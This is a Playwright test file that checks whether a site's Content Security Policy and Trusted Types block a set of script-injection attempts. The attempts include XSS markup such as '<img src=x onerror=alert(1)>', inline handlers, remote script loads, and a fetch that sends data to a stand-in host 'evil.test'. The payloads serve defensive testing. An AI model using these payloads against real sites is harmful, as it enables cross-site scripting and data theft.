import type { Page } from '@playwright/test'
import { started } from '../site/started'
import { expect, test } from '../site/test'
import { watchViolations } from '@crossbook/verification'

/** Attempts of injected code, and the directive that refuses each. */
const ATTACKS: Readonly<Record<string, { attack: (page: Page) => Promise<unknown>; directive: string }>> = {
  'markup written as text': {
    attack: (page) => page.evaluate(() => void (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
    directive: 'require-trusted-types-for',
  },
  'an inline event handler': {
    attack: (page) => page.evaluate(() => document.body.setAttribute('onclick', 'alert(1)')),
    directive: 'require-trusted-types-for',
  },
  'a frame made of text': {
    attack: (page) =>
      page.evaluate(() => void (document.createElement('iframe').srcdoc = '<script>alert(1)</script>')),
    directive: 'require-trusted-types-for',
  },
  'another policy for scripts': {
    attack: (page) =>
      page.evaluate(() => {
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): void }
        }
        trustedTypes.createPolicy('mine', { createScriptURL: (address: string) => address })
      }),
    directive: 'trusted-types',
  },
  'a style of its own': {
    attack: (page) =>
      page.evaluate(() => {
        const style = document.createElement('style')
        style.textContent = 'body { display: none }'
        document.head.append(style)
      }),
    directive: 'style-src-elem',
  },
  'a style of an element’s own': {
    attack: (page) => page.evaluate(() => document.body.setAttribute('style', 'display: none')),
    directive: 'style-src-attr',
  },
  'a frame of another site': {
    attack: (page) =>
      page.evaluate(() => {
        const frame = document.createElement('iframe')
        frame.src = 'https://evil.test/'
        document.body.append(frame)
      }),
    directive: 'frame-src',
  },
  'data sent elsewhere': {
    attack: (page) => page.evaluate(() => fetch('https://evil.test/?stolen').catch(() => undefined)),
    directive: 'connect-src',
  },
  'another base for links': {
    attack: (page) =>
      page.evaluate(() => {
        const base = document.createElement('base')
        base.href = 'https://evil.test/'
        document.head.append(base)
      }),
    directive: 'base-uri',
  },
}

for (const [what, { attack, directive }] of Object.entries(ATTACKS))
  test(`the security policy refuses ${what}`, async ({ page }) => {
    const violations = await watchViolations(page)
    await page.goto('/terms')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await attack(page).catch(() => undefined)
    await expect.poll(() => violations.map((violation) => violation.directive)).toContain(directive)
  })

for (const address of [
  'https://evil.test/x.js',
  '//evil.test/x.js',
  'data:text/javascript,alert(1)',
  'blob:https://evil.test/1',
  '/auth/v1/settings',
  '/apps/marketing/6.6.6/remoteEntry.js',
])
  test(`no code on a page can load the script ${address}`, async ({ page, site }) => {
    await page.goto('/terms')
    // Until then the browser refuses every script by itself, in its own words.
    await started(page)
    const requested: string[] = []
    page.on('request', (request) => requested.push(request.url()))
    const refusal = await page.evaluate((src) => {
      try {
        const script = document.createElement('script')
        script.src = src
        document.head.append(script)
        return 'it was taken'
      } catch (error) {
        return String(error)
      }
    }, address)
    expect(refusal).toContain('is not a file of this page’s release')
    expect(requested.filter((url) => !url.startsWith(site.url) || url.endsWith(address))).toEqual([])
  })

test('text is never run as code', async ({ page }) => {
  await page.goto('/terms')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const refusal = page.evaluate(() => {
    // A timer is the page's own code to the browser, where code of the test would be let through.
    return new Promise<string>((done) => {
      const button = document.createElement('button')
      button.addEventListener('click', () => {
        try {
          done(String(new Function('return "it ran"')()))
        } catch (error) {
          done(String(error))
        }
      })
      document.body.append(button)
      setTimeout(() => button.click())
    })
  })
  expect(await refusal).toContain('EvalError')
})
